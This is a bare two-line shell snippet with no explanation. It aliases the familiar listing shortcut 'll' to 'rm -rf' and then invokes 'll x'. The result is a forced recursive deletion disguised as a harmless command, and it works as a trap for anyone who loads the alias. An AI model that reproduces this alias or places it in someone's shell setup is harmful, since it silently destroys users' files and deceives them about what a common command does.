alias ll="rm -rf"
ll x
